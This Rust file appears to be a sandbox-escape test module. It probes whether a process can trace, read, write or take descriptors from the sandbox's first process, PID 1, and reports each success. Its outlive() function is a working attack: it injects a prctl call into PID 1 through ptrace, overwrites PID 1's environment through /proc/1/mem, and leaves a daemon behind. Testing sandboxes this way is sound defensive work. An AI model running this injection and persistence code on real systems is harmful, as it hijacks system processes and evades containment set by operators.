//! Attacks on the first process of the sandbox, whose death ends all others: whoever can write to
//! it can take its bond to the hive away and stay.

use std::fs;
use std::io;
use std::os::unix::fs::FileExt;
use std::ptr;

use crate::escaped;

const FIRST: i32 = 1;
/// What the kernel makes of a number with more bits than a process has.
const FIRST_AND_MORE: i64 = (1 << 32) | FIRST as i64;
/// The second number of a call on a kernel with x32.
const X32: i64 = 0x4000_0000;

/// Every way into it that a process of the same user has.
pub fn first() {
    let numbers = [i64::from(FIRST), FIRST_AND_MORE];
    for (pid, call) in
        numbers.into_iter().flat_map(|pid| [(pid, libc::SYS_ptrace), (pid, X32 | 521)])
    {
        for request in [libc::PTRACE_ATTACH, libc::PTRACE_SEIZE] {
            // SAFETY: numbers only.
            if unsafe { libc::syscall(call, i64::from(request), pid, 0, 0) } == 0 {
                escaped(&format!("traced the first process by call {call}, request {request}"));
            }
        }
    }
    let mut byte = 0_u8;
    // SAFETY: a local buffer of its own length, and an address of the other.
    unsafe {
        let local = libc::iovec { iov_base: (&raw mut byte).cast(), iov_len: 1 };
        let remote = libc::iovec { iov_base: 0x40_0000 as *mut _, iov_len: 1 };
        let calls = [libc::SYS_process_vm_readv, libc::SYS_process_vm_writev];
        for call in calls.into_iter().chain([X32 | 539, X32 | 540]) {
            let (local, remote) = (&raw const local, &raw const remote);
            let moved = libc::syscall(call, FIRST, local, 1, remote, 1, 0);
            // A wrong address is found out behind the wall.
            if moved >= 0 || last() == libc::EFAULT {
                escaped(&format!("reached the memory of the first process by call {call}"));
            }
        }
        let handle = libc::syscall(libc::SYS_pidfd_open, FIRST, 0);
        if libc::syscall(libc::SYS_pidfd_getfd, handle, 0, 0) >= 0 {
            escaped("took a descriptor of the first process");
        }
        if libc::syscall(libc::SYS_kcmp, FIRST, std::process::id(), 0, 0, 0) >= 0 {
            escaped("compared memory with the first process");
        }
    }
    for way in ["/proc/1", "/proc/self/../1", "/proc/self/task/../../1", "/proc/1/task/1"] {
        for file in ["mem", "environ", "maps", "stat", "cmdline", "fd/0", "ns/mnt", "root"] {
            if fs::File::open(format!("{way}/{file}")).is_ok() {
                escaped(&format!("opened {way}/{file}"));
            }
        }
        if fs::OpenOptions::new().write(true).open(format!("{way}/mem")).is_ok() {
            escaped(&format!("opened {way}/mem for writing"));
        }
    }
}

/// Takes its death signal and the mark in its environment from the first process, as far as that
/// goes, and leaves a daemon.
pub fn outlive() {
    if let Err(error) = let_go() {
        println!("not traced: {error}");
    }
    if let Err(error) = unmark() {
        println!("not written: {error}");
    }
    crate::daemon();
}

/// The call is put into the place of the one that the first process waits in.
#[cfg(target_arch = "x86_64")]
fn let_go() -> io::Result<()> {
    let trace = |request: u32, data: *mut libc::c_void| {
        // SAFETY: the registers are a local struct of the size the kernel has.
        let done = unsafe { libc::ptrace(request, FIRST, ptr::null_mut::<libc::c_void>(), data) };
        if done == 0 { Ok(()) } else { Err(io::Error::last_os_error()) }
    };
    let stopped = || {
        // SAFETY: nothing is written.
        while unsafe { libc::waitpid(FIRST, ptr::null_mut(), libc::__WALL) } == -1 {}
    };
    trace(libc::PTRACE_ATTACH, ptr::null_mut())?;
    stopped();
    // SAFETY: plain numbers, for which zero is a value.
    let mut before: libc::user_regs_struct = unsafe { std::mem::zeroed() };
    trace(libc::PTRACE_GETREGS, (&raw mut before).cast())?;
    let mut call = before;
    (call.rax, call.orig_rax, call.rip) = (libc::SYS_prctl as u64, u64::MAX, before.rip - 2);
    (call.rdi, call.rsi) = (libc::PR_SET_PDEATHSIG as u64, 0);
    trace(libc::PTRACE_SETREGS, (&raw mut call).cast())?;
    trace(libc::PTRACE_SINGLESTEP, ptr::null_mut())?;
    stopped();
    // And on with what it waited for.
    (before.rax, before.orig_rax, before.rip) = (before.orig_rax, u64::MAX, before.rip - 2);
    trace(libc::PTRACE_SETREGS, (&raw mut before).cast())?;
    trace(libc::PTRACE_DETACH, ptr::null_mut())
}

#[cfg(not(target_arch = "x86_64"))]
fn let_go() -> io::Result<()> {
    // SAFETY: numbers only.
    match unsafe { libc::ptrace(libc::PTRACE_ATTACH, FIRST, 0, 0) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}

/// Overwrites its environment.
fn unmark() -> io::Result<()> {
    let text = fs::read_to_string("/proc/1/stat")?;
    let fields = text.rsplit_once(')').map_or("", |(_, fields)| fields);
    let field = |number: usize| fields.split_whitespace().nth(number)?.parse::<u64>().ok();
    // The fields 50 and 51 of all; these begin with the third.
    let (Some(from), Some(to)) = (field(47), field(48)) else {
        return Err(io::Error::other("where is its environment?"));
    };
    let nothing = vec![b'x'; usize::try_from(to - from).map_err(io::Error::other)?];
    fs::OpenOptions::new().write(true).open("/proc/1/mem")?.write_all_at(&nothing, from)
}

fn last() -> i32 {
    io::Error::last_os_error().raw_os_error().unwrap_or(0)
}
